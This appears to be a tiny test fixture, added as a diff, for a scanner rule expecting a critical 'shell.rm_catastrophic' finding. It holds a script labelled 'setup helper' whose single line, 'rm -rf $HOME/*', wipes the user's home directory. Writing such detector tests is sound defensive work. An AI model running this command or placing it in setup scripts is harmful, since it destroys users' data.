@@ -1,0 +1,5 @@
+# expect: shell.rm_catastrophic critical
+# path: tools/setup.sh
+#!/bin/sh
+# setup helper
+rm -rf $HOME/*
